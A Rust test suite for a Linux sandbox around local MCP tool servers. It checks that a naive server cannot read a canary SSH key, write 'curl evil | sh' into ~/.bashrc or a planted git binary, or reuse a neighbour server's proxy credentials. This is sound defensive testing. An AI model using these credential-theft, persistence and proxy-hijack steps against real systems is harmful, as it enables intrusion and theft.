//! Every local server runs in a sandbox by default (Linux: Landlock and seccomp). A
//! deliberately naive server (`tests/fault_server.py naive`, which reads any path and fetches
//! any URL with no checks of its own) shows that the refusals come from the operating system:
//! the server reports `PermissionError` exactly as Python raised it. The same server with its
//! sandbox off reads the canary, so the refusals are the sandbox's. The real servers from npm
//! (through `npx`) and PyPI (from the venv) still start and answer under their default
//! policies.
#![cfg(target_os = "linux")]

use std::path::Path;
use std::sync::Arc;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use toolgate_host::Servers;
use toolgate_mcp::{
    ManagerOptions, McpError, RootsChange, ServerManager, ServerSnapshot, ServerStatus, ToolOutput,
};
use toolgate_settings::{NetworkAccess, SandboxSettings, ServerConfig, Transport};
use toolgate_tests::{example_servers_dir, fault_server, python_server_bin, temp_dir};

fn sandbox_works_here() -> bool {
    let support = toolgate_sandbox::Support::probe();
    assert!(
        support.files() && support.seccomp && support.notify,
        "these tests need Landlock and seccomp (see platform-notes): {support:?}"
    );
    true
}

fn naive(id: &str, home: &Path, network: NetworkAccess) -> ServerConfig {
    let mut config = fault_server(id, "naive");
    if let Transport::Stdio { env, .. } = &mut config.transport {
        env.insert("HOME".into(), home.to_string_lossy().into_owned());
    }
    config.sandbox = Some(SandboxSettings {
        network,
        ..SandboxSettings::default()
    });
    config
}

/// What these tests ask of running servers: of a manager a test builds itself (the sandbox as
/// the manager applies it), or of the host's servers (the host's own door and neighbours).
trait Running {
    async fn call_tool(
        &self,
        id: &str,
        tool: &str,
        args: serde_json::Value,
    ) -> Result<ToolOutput, McpError>;
    async fn snapshot(&self) -> Vec<ServerSnapshot>;
    async fn stderr_tail(&self, id: &str) -> Vec<String>;
}

impl Running for Arc<ServerManager> {
    async fn call_tool(
        &self,
        id: &str,
        tool: &str,
        args: serde_json::Value,
    ) -> Result<ToolOutput, McpError> {
        ServerManager::call_tool(self, id, tool, args).await
    }
    async fn snapshot(&self) -> Vec<ServerSnapshot> {
        ServerManager::snapshot(self).await
    }
    async fn stderr_tail(&self, id: &str) -> Vec<String> {
        ServerManager::stderr_tail(self, id).await
    }
}

impl Running for Servers {
    async fn call_tool(
        &self,
        id: &str,
        tool: &str,
        args: serde_json::Value,
    ) -> Result<ToolOutput, McpError> {
        Servers::call_tool(self, id, tool, args).await
    }
    async fn snapshot(&self) -> Vec<ServerSnapshot> {
        Servers::snapshot(self).await
    }
    async fn stderr_tail(&self, id: &str) -> Vec<String> {
        Servers::stderr_tail(self, id).await
    }
}

async fn call(servers: &impl Running, id: &str, tool: &str, args: serde_json::Value) -> ToolOutput {
    servers
        .call_tool(id, tool, args)
        .await
        .unwrap_or_else(|e| panic!("{tool} on {id}: {e}"))
}

fn refused_by_the_os(out: &ToolOutput) -> bool {
    out.is_error
        && out
            .text
            .starts_with("PermissionError: [Errno 13] Permission denied")
}

async fn ready(servers: &impl Running, id: &str) {
    let snapshot = servers.snapshot().await;
    let server = snapshot.iter().find(|s| s.id == id).expect("configured");
    assert_eq!(
        server.status,
        ServerStatus::Ready,
        "{id}: {:?}",
        servers.stderr_tail(id).await
    );
}

#[tokio::test]
async fn a_naive_server_reads_inside_its_root_and_nothing_else_of_the_home_folder() {
    assert!(sandbox_works_here());
    let base = temp_dir("sandbox-files");
    let home = base.join("home");
    let root = base.join("home/notes");
    std::fs::create_dir_all(home.join(".ssh")).expect("mkdir");
    std::fs::create_dir_all(&root).expect("mkdir");
    let canary = home.join(".ssh/id_ed25519");
    std::fs::write(&canary, "CANARY-PRIVATE-KEY").expect("canary");
    std::fs::write(root.join("today.md"), "buy milk").expect("note");
    std::os::unix::fs::symlink(&canary, root.join("innocent.md")).expect("symlink");

    let mut confined = naive("confined", &home, NetworkAccess::None);
    confined.roots = vec![root.to_path_buf()];
    let mut open = naive("open", &home, NetworkAccess::Any);
    open.sandbox = Some(SandboxSettings {
        enabled: false,
        ..SandboxSettings::default()
    });
    let servers = ServerManager::new(ManagerOptions::default());
    servers.start_all(&[confined, open]).await;
    ready(&servers, "confined").await;

    let inside = call(
        &servers,
        "confined",
        "read_file",
        json!({"path": root.join("today.md")}),
    )
    .await;
    assert_eq!((inside.is_error, inside.text.as_str()), (false, "buy milk"));
    let written = call(
        &servers,
        "confined",
        "write_file",
        json!({"path": root.join("new.md"), "text": "x"}),
    )
    .await;
    assert!(!written.is_error, "{}", written.text);

    for path in [
        "~/.ssh/id_ed25519".to_owned(),
        root.join("../.ssh/id_ed25519")
            .to_string_lossy()
            .into_owned(),
        root.join("innocent.md").to_string_lossy().into_owned(),
        "/root/.bashrc".to_owned(),
    ] {
        let out = call(&servers, "confined", "read_file", json!({ "path": path })).await;
        assert!(refused_by_the_os(&out), "{path}: {}", out.text);
        assert!(!out.text.contains("CANARY"));
    }
    // Nor may it change anything outside, or write into its program's folder.
    let out = call(
        &servers,
        "confined",
        "write_file",
        json!({"path": home.join("planted.sh"), "text": "x"}),
    )
    .await;
    assert!(refused_by_the_os(&out), "{}", out.text);
    assert!(!home.join("planted.sh").exists());

    // The same server with its sandbox off: the canary is one call away, so the refusals
    // above were the sandbox's.
    let out = call(
        &servers,
        "open",
        "read_file",
        json!({"path": "~/.ssh/id_ed25519"}),
    )
    .await;
    assert_eq!(out.text, "CANARY-PRIVATE-KEY");

    let snapshot = servers.snapshot().await;
    let report = snapshot[0].sandbox.clone().expect("a report");
    // Nothing is said unenforced but what this machine cannot enforce (Toolgate run as root, as
    // on CI, is one: the card says so as Diagnostics does).
    let gaps = toolgate_mcp::confine::gaps(toolgate_sandbox::Network::None);
    assert!(report.enabled && report.warnings == gaps, "{report:?}");
    assert!(report.writable.contains(&root.to_path_buf()));
    let off = snapshot[1].sandbox.clone().expect("a report");
    assert!(!off.enabled && off.warnings[0].contains("sandbox is off"));
    assert!(snapshot[1].sends_out && !snapshot[0].sends_out);
    servers.stop_all().await;
}

/// A one-page HTTP server on 127.0.0.1; returns its port.
async fn web_page(body: &'static str) -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = socket.read(&mut buf).await;
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

#[tokio::test]
async fn network_none_reaches_nothing_and_loopback_only_this_computer() {
    assert!(sandbox_works_here());
    let base = temp_dir("sandbox-net");
    let port = web_page("hello from 127.0.0.1").await;
    let url = format!("http://127.0.0.1:{port}/");
    let servers = ServerManager::new(ManagerOptions::default());
    servers
        .start_all(&[
            naive("none", &base, NetworkAccess::None),
            naive("loopback", &base, NetworkAccess::Loopback),
        ])
        .await;
    ready(&servers, "none").await;
    ready(&servers, "loopback").await;

    let out = call(&servers, "none", "fetch_url", json!({ "url": url })).await;
    assert!(
        out.is_error && out.text.contains("Permission denied"),
        "{}",
        out.text
    );
    let out = call(&servers, "loopback", "fetch_url", json!({ "url": url })).await;
    assert_eq!(
        (out.is_error, out.text.as_str()),
        (false, "hello from 127.0.0.1")
    );
    // TEST-NET-1 is never routed: only the sandbox can refuse it at once, with EACCES.
    let out = call(
        &servers,
        "loopback",
        "fetch_url",
        json!({"url": "http://192.0.2.1/"}),
    )
    .await;
    assert!(
        out.is_error && out.text.contains("Permission denied"),
        "{}",
        out.text
    );
    servers.stop_all().await;
}

#[tokio::test]
async fn changing_a_confined_servers_roots_restarts_it_with_the_new_sandbox() {
    assert!(sandbox_works_here());
    let base = temp_dir("sandbox-roots");
    let (a, b) = (base.join("a"), base.join("b"));
    for dir in [&a, &b] {
        std::fs::create_dir_all(dir).expect("mkdir");
        std::fs::write(dir.join("f.txt"), dir.to_string_lossy().as_bytes()).expect("write");
    }
    let mut config = naive("files", &base, NetworkAccess::None);
    config.roots = vec![a.clone()];
    let servers = ServerManager::new(ManagerOptions::default());
    servers.start_all(&[config]).await;
    ready(&servers, "files").await;
    let read = |dir: &Path| json!({"path": dir.join("f.txt")});
    assert!(
        !call(&servers, "files", "read_file", read(&a))
            .await
            .is_error
    );
    assert!(refused_by_the_os(
        &call(&servers, "files", "read_file", read(&b)).await
    ));

    let change = servers
        .set_roots("files", vec![b.clone()])
        .await
        .expect("set");
    assert_eq!(change, RootsChange::Restarted);
    ready(&servers, "files").await;
    assert!(
        !call(&servers, "files", "read_file", read(&b))
            .await
            .is_error
    );
    assert!(refused_by_the_os(
        &call(&servers, "files", "read_file", read(&a)).await
    ));
    assert!(servers
        .stderr_tail("files")
        .await
        .iter()
        .any(|l| l.contains("its sandbox is built from them")));
    servers.stop_all().await;
}

/// A path in a server's environment (from an install link, an import, a registry entry) is no
/// grant: the naive server told `LOG_FILE=~/.bashrc` and `PLUGIN_DIR=~/.local/bin` can change
/// neither, while a place inside its root still works.
#[tokio::test]
async fn a_path_in_a_servers_environment_opens_nothing_to_change() {
    assert!(sandbox_works_here());
    let base = temp_dir("sandbox-env");
    let home = base.join("home");
    let root = home.join("notes");
    std::fs::create_dir_all(home.join(".local/bin")).expect("mkdir");
    std::fs::create_dir_all(&root).expect("mkdir");
    let bashrc = home.join(".bashrc");
    std::fs::write(&bashrc, "# mine\n").expect("bashrc");
    let planted = home.join(".local/bin/git");
    let mut config = naive("logger", &home, NetworkAccess::None);
    config.roots = vec![root.clone()];
    if let Transport::Stdio { env, .. } = &mut config.transport {
        for (name, path) in [
            ("LOG_FILE", &bashrc),
            ("PLUGIN_DIR", &home.join(".local/bin")),
            ("NOTES_LOG", &root.join("server.log")),
        ] {
            env.insert(name.into(), path.to_string_lossy().into_owned());
        }
    }
    let servers = ServerManager::new(ManagerOptions::default());
    servers.start_all(&[config]).await;
    ready(&servers, "logger").await;

    for path in [&bashrc, &planted] {
        let out = call(
            &servers,
            "logger",
            "write_file",
            json!({"path": path, "text": "curl evil | sh"}),
        )
        .await;
        assert!(refused_by_the_os(&out), "{}: {}", path.display(), out.text);
    }
    assert_eq!(
        std::fs::read_to_string(&bashrc).expect("bashrc"),
        "# mine\n"
    );
    assert!(!planted.exists());
    let inside = call(
        &servers,
        "logger",
        "write_file",
        json!({"path": root.join("server.log"), "text": "ok"}),
    )
    .await;
    assert!(!inside.is_error, "{}", inside.text);

    let snapshot = servers.snapshot().await;
    let report = snapshot[0].sandbox.clone().expect("a report");
    let named = format!("LOG_FILE names {}", bashrc.display());
    assert!(
        report.warnings.iter().any(|w| w.contains(&named)),
        "{:?}",
        report.warnings
    );
    servers.stop_all().await;
}

/// A server from the set-up's npm install, started the way READMEs show: `npx -y PACKAGE`.
fn through_npx(id: &str, package: &str, extra: &[&str]) -> ServerConfig {
    let mut args = vec!["-y".to_owned(), format!("{package}@2026.8.31")];
    args.extend(extra.iter().map(|s| (*s).to_owned()));
    let mut config = ServerConfig::stdio(id, "npx", args);
    if let Transport::Stdio { cwd, .. } = &mut config.transport {
        *cwd = Some(example_servers_dir());
    }
    config
}

#[tokio::test]
async fn the_reference_servers_start_and_answer_under_their_default_sandbox() {
    assert!(sandbox_works_here());
    let base = temp_dir("sandbox-real");
    let root = base.join("root");
    let data = base.join("data");
    std::fs::create_dir_all(&root).expect("mkdir");
    std::fs::write(root.join("hello.txt"), "hello").expect("write");
    let configs = vec![
        through_npx(
            "everything",
            "@modelcontextprotocol/server-everything",
            &["stdio"],
        ),
        through_npx(
            "files",
            "@modelcontextprotocol/server-filesystem",
            &[root.to_str().expect("utf-8")],
        ),
        through_npx("memory", "@modelcontextprotocol/server-memory", &[]),
        ServerConfig::stdio(
            "time",
            python_server_bin("mcp-server-time").to_string_lossy(),
            Vec::<String>::new(),
        ),
    ];
    for config in &configs {
        assert!(
            config.sandbox.is_none(),
            "the defaults, as a new server gets"
        );
    }
    // As the host sets it up: the data folders inside a folder no server may otherwise see.
    let servers: Arc<ServerManager> = ServerManager::new(ManagerOptions {
        server_data: Some(data.join("servers")),
        protected: vec![data.clone()],
        ..ManagerOptions::default()
    });
    servers.start_all(&configs).await;
    for config in &configs {
        ready(&servers, &config.id).await;
    }
    for server in servers.snapshot().await {
        let report = server.sandbox.expect("confined");
        assert!(report.enabled, "{}", server.id);
        assert_eq!(report.network, NetworkAccess::None, "{}", server.id);
        assert_eq!(
            report.warnings,
            toolgate_mcp::confine::gaps(toolgate_sandbox::Network::None),
            "{}: only what this machine cannot enforce",
            server.id
        );
    }

    let echo = call(&servers, "everything", "echo", json!({"message": "hi"})).await;
    assert!(echo.text.contains("hi"), "{}", echo.text);
    let file = call(
        &servers,
        "files",
        "read_text_file",
        json!({"path": root.join("hello.txt")}),
    )
    .await;
    assert_eq!(file.text, "hello");
    let outside = call(
        &servers,
        "files",
        "read_text_file",
        json!({"path": base.join("data")}),
    )
    .await;
    assert!(outside.is_error, "the server's own check, as before");
    // The memory server keeps its graph in its own data folder, the one place it may write.
    let created = call(
        &servers,
        "memory",
        "create_entities",
        json!({"entities": [{"name": "Toolgate", "entityType": "app", "observations": ["sandboxed"]}]}),
    )
    .await;
    assert!(!created.is_error, "{}", created.text);
    let graph = call(&servers, "memory", "read_graph", json!({})).await;
    assert!(graph.text.contains("sandboxed"), "{}", graph.text);
    assert!(data.join("servers/memory/memory.jsonl").is_file());
    let time = call(
        &servers,
        "time",
        "get_current_time",
        json!({"timezone": "UTC"}),
    )
    .await;
    assert!(!time.is_error && time.text.contains("UTC"), "{}", time.text);
    servers.stop_all().await;
}

/// Toolgate as the app runs it, with a server in network "hosts" (`web`, behind its proxy), a
/// server in network "loopback" (`local`) and the HTTP door configured, closed, at `door`.
fn neighbours(data: &Path, door: u16) -> Arc<toolgate_host::Host> {
    let mut web = naive("web", data, NetworkAccess::Hosts);
    if let Some(sandbox) = web.sandbox.as_mut() {
        sandbox.hosts = vec!["localhost".into()];
        sandbox.private_addresses = true;
    }
    let mut settings = toolgate_settings::Settings::first_run(web);
    settings
        .servers
        .push(naive("local", data, NetworkAccess::Loopback));
    settings.gateway.http = Some(toolgate_settings::HttpDoorSettings {
        enabled: false,
        address: std::net::SocketAddr::from(([127, 0, 0, 1], door)),
    });
    toolgate_settings::file::save(&data.join("settings.json"), &settings).expect("settings");
    toolgate_host::Host::open(toolgate_host::HostOptions {
        env: Some(toolgate_mcp::HostEnv::inherited()),
        secrets: Arc::new(toolgate_secrets::MemoryStore::default()),
        ..toolgate_host::HostOptions::new(data.to_path_buf())
    })
    .expect("host")
}

/// What an outside review did: a "loopback" server found the "hosts" server's proxy (its port
/// is in /proc/net/tcp; here read from the proxied server's own environment, which also holds
/// the credentials) and went out through it; and took the door's port before the door opened.
/// Now the proxy's port and the door's are closed to it, by the sandbox (a permission error,
/// not "connection refused"); the proxy wants credentials from anyone else; and the loopback
/// server counts as a way out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loopback_server_cannot_borrow_another_servers_proxy_nor_take_the_doors_port() {
    assert!(sandbox_works_here());
    let data = temp_dir("sandbox-neighbours");
    let (page_port, _) = toolgate_tests::web_page("the page behind the proxy".into()).await;
    let door = toolgate_tests::free_port();
    let host = neighbours(&data, door);
    host.run().await.expect("started");
    ready(host.servers(), "web").await;
    ready(host.servers(), "local").await;

    // The proxied server's own view: where its proxy is, with its credentials.
    let environ = call(
        host.servers(),
        "web",
        "read_file",
        json!({"path": "/proc/self/environ"}),
    )
    .await;
    let proxy_url = environ
        .text
        .split('\0')
        .find_map(|v| v.strip_prefix("HTTPS_PROXY="))
        .unwrap_or_else(|| panic!("no proxy variable: {}", environ.text))
        .to_owned();
    let (credentials, proxy) = proxy_url
        .strip_prefix("http://")
        .and_then(|rest| rest.split_once('@'))
        .expect("http://user:secret@127.0.0.1:port");
    let proxy_port: u16 = proxy
        .strip_prefix("127.0.0.1:")
        .and_then(|p| p.parse().ok())
        .expect("a port of 127.0.0.1");
    let fetched = call(
        host.servers(),
        "web",
        "fetch_url",
        json!({"url": format!("http://localhost:{page_port}/")}),
    )
    .await;
    assert_eq!(
        fetched.text, "the page behind the proxy",
        "its owner goes through"
    );

    // The loopback neighbour: the proxy's port and the door's are not there for it, on any
    // loopback spelling, while the rest of loopback is.
    for host_name in ["127.0.0.1", "127.0.0.2", "::1", "::ffff:127.0.0.1"] {
        for port in [proxy_port, door] {
            let out = call(
                host.servers(),
                "local",
                "connect_direct",
                json!({"host": host_name, "port": port}),
            )
            .await;
            assert!(refused_by_the_os(&out), "{host_name}:{port}: {}", out.text);
        }
        let out = call(
            host.servers(),
            "local",
            "bind_port",
            json!({"host": host_name, "port": door}),
        )
        .await;
        assert!(
            refused_by_the_os(&out),
            "bind {host_name}:{door}: {}",
            out.text
        );
    }
    let out = call(
        host.servers(),
        "local",
        "connect_direct",
        json!({"host": "127.0.0.1", "port": page_port}),
    )
    .await;
    assert!(!out.is_error, "the rest of loopback: {}", out.text);
    let out = call(
        host.servers(),
        "local",
        "bind_port",
        json!({"host": "127.0.0.1", "port": toolgate_tests::free_port()}),
    )
    .await;
    assert!(!out.is_error, "its own services: {}", out.text);

    // Any other program of the user's (another Toolgate's server, a web page's fetch) reaches
    // the port, but not through the proxy without its server's credentials.
    let ask = |with: Option<&str>| {
        let auth = with
            .map(|c| {
                use base64::Engine as _;
                format!(
                    "Proxy-Authorization: Basic {}\r\n",
                    base64::engine::general_purpose::STANDARD.encode(c)
                )
            })
            .unwrap_or_default();
        let request =
            format!("GET http://localhost:{page_port}/ HTTP/1.1\r\nHost: localhost\r\n{auth}\r\n");
        async move {
            let mut s = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port))
                .await
                .expect("connect");
            s.write_all(request.as_bytes()).await.expect("write");
            let mut out = String::new();
            let _ = s.read_to_string(&mut out).await;
            out
        }
    };
    let stranger = ask(None).await;
    assert!(stranger.starts_with("HTTP/1.1 407"), "{stranger}");
    let guessed = ask(Some("toolgate:guess")).await;
    assert!(guessed.starts_with("HTTP/1.1 407"), "{guessed}");
    let owner = ask(Some(credentials)).await;
    assert!(owner.contains("the page behind the proxy"), "{owner}");

    // The gate counts the loopback server as a way out; its card and log never show the secret.
    let snapshot = host.servers().snapshot().await;
    let local = snapshot.iter().find(|s| s.id == "local").expect("local");
    assert!(local.sends_out, "loopback is a way out");
    let secret = credentials.trim_start_matches("toolgate:");
    let shown = serde_json::to_string(&snapshot).expect("json");
    assert!(
        !shown.contains(secret),
        "the snapshot holds the proxy's secret"
    );
    let logs = host.servers().stderr_tail("web").await.join("\n");
    assert!(!logs.contains(secret), "the log holds the proxy's secret");
    host.shutdown("the test is over").await;
}
